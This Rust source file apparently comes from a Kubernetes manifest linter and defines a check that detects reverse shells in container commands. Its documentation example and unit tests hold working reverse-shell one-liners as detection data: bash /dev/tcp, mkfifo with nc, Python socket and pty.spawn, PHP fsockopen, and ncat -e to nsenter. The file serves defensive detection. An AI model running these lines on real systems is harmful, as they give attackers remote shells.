use std::collections::HashSet;

use seawall_yaml::Path;

use crate::Out;
use crate::command_line::{Command, base_name, commands, is_shell};

crate::check::check! {
    /// Shell offered over the network
    ///
    /// ## What it finds
    /// Commands that tie a shell to a connection: `nc -e`, `ncat --exec`, `socat … exec:`, `bash -i >& /dev/tcp/…`, and
    /// their kin in scripting languages, in `command`, `args` or a script in them. Programs that are hidden by encoding are
    /// not found.
    ///
    /// ## Why it matters
    /// This is how an attacker gets a shell in a container that he cannot reach from outside. In a manifest there is no
    /// honest reason for it.
    ///
    /// ## Bad
    /// ```yaml bad
    /// apiVersion: v1
    /// kind: Pod
    /// metadata:
    ///   name: web
    /// spec:
    ///   containers:
    ///   - name: app
    ///     image: registry.example/app:1.0
    ///     command: ["/bin/sh", "-c"]
    ///     args:
    ///     - ncat --ssl $HOST $PORT -e /bin/bash;   # <- finding
    /// ```
    /// ## Good
    /// ```yaml good
    /// apiVersion: v1
    /// kind: Pod
    /// metadata:
    ///   name: web
    /// spec:
    ///   containers:
    ///   - name: app
    ///     image: registry.example/app:1.0
    ///     command: ["/bin/sh", "-c"]
    ///     args:
    ///     - until nc -z db 5432; do sleep 1; done; exec app
    /// ```
    /// ## How to fix
    /// Find out who wrote it and what has run: treat it as an incident. Then remove it.
    ///
    /// ## References
    /// - MITRE ATT&CK T1059.004, T1571
    id: "SW1057",
    name: "reverse-shell",
    severity: High,
    scope: Container,
    since: "0.1.0",
    profile: Default,
    fn run(container, out) {
        let mut reported = HashSet::new();
        let mut report = |path: Path, out: &mut Out<'_>| {
            if reported.insert(path.clone()) {
                let message = format!("container `{}` offers a shell over the network", container.name());
                out.fail(path, message).derived("a shell is tied to a network connection");
            }
        };
        for command in commands(container) {
            if ties_a_shell(&command) {
                report(command.path(container), out);
            }
        }
        let own = container.container;
        for (field, list) in [("command", &own.command), ("args", &own.args)] {
            for (index, _) in list.iter().enumerate().filter(|(_, text)| opens_a_connection(text)) {
                report(container.path(field).index(index), out);
            }
        }
    }
}

/// `nc -e sh` and its kin: a network tool that is told to run a shell.
fn ties_a_shell(command: &Command<'_>) -> bool {
    let arguments = command.arguments();
    match command.program() {
        "nc" | "ncat" | "netcat" | "nc.openbsd" | "nc.traditional" => {
            let runs = |argument: &&str| matches!(*argument, "-e" | "-c" | "--exec" | "--sh-exec") || argument.starts_with("--exec=") || argument.starts_with("--sh-exec=");
            arguments.iter().any(runs) && arguments.iter().any(|argument| starts_a_shell(argument))
        }
        "socat" => arguments.iter().any(|argument| {
            let lower = argument.to_ascii_lowercase();
            (lower.starts_with("exec:") || lower.starts_with("system:")) && lower.contains("sh")
        }),
        _ => false,
    }
}

fn starts_a_shell(argument: &str) -> bool {
    let program = argument.rsplit_once('=').map_or(argument, |(_, value)| value);
    is_shell(program) || matches!(base_name(program), "nsenter" | "cmd.exe" | "powershell.exe")
}

/// What opens a connection and a shell in a shell's own language or in that of an interpreter.
fn opens_a_connection(script: &str) -> bool {
    let has = |part: &str| script.contains(part);
    has("/dev/tcp/") && (has("sh -i") || has("0>&1") || has("<&")) && has("sh")
        || has("socket") && has("connect") && (has("dup2") || has("pty.spawn") || has("subprocess") || has("/bin/sh"))
            && (has("fileno") || has("/sh") || has("/bash"))
        || has("fsockopen") && has("exec") && has("sh")
        || has("mkfifo") && has("nc ") && has("sh -i")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn knows_shells_that_are_tied_to_connections() {
        for (words, expected) in [
            (&["nc", "-e", "/bin/sh", "10.0.0.1", "4444"][..], true),
            (&["/usr/local/bin/ncat", "--ssl", "$HOST", "$PORT", "-e", "/bin/nsenter", "--target", "1"], true),
            (&["ncat", "--exec=/bin/bash", "h", "1"], true),
            (&["socat", "TCP:h:1", "EXEC:/bin/bash,pty"], true),
            (&["nc", "-z", "db", "5432"], false),
            (&["nc", "-l", "-p", "80", "-e", "/www"], false),
            (&["socat", "TCP-LISTEN:1", "TCP:h:2"], false),
        ] {
            let command = Command::of(words.to_vec());
            assert_eq!(ties_a_shell(&command), expected, "{words:?}");
        }
        for (script, expected) in [
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true),
            ("exec 5<>/dev/tcp/h/1; sh <&5 >&5 2>&5", true),
            ("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc h 1 >/tmp/f", true),
            ("import socket,os,pty;s=socket.socket();s.connect((h,1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')", true),
            ("import socket,os; s.connect((h, 1)); os.dup2(s.fileno(), 0); os.system('x')", true),
            ("import socket,subprocess; s.connect((h, 1)); subprocess.call(['/bin/sh'], stdin=s)", true),
            ("import socket,subprocess; s.connect((h, 1)); subprocess.call(['/bin/bash'], stdin=s)", true),
            ("import socket,pty; s.connect((h, 1)); pty.spawn('/bin/bash')", true),
            ("$s=fsockopen('10.0.0.1', 1); exec('sh <&3 >&3')", true),
            ("timeout 1 bash -c '</dev/tcp/db/5432' && exec app", false),
            ("mkfifo /tmp/f; nc -z db 5432", false),
            ("import subprocess; subprocess.call(['/bin/sh', 'start'])", false),
            ("import socket,subprocess; s.connect(('db', 1)); subprocess.call(['app'])", false),
            ("$s=fsockopen('db', 5432);", false),
            ("import socket; s.connect(('db', 5432))", false),
        ] {
            assert_eq!(opens_a_connection(script), expected, "{script}");
        }
    }
}
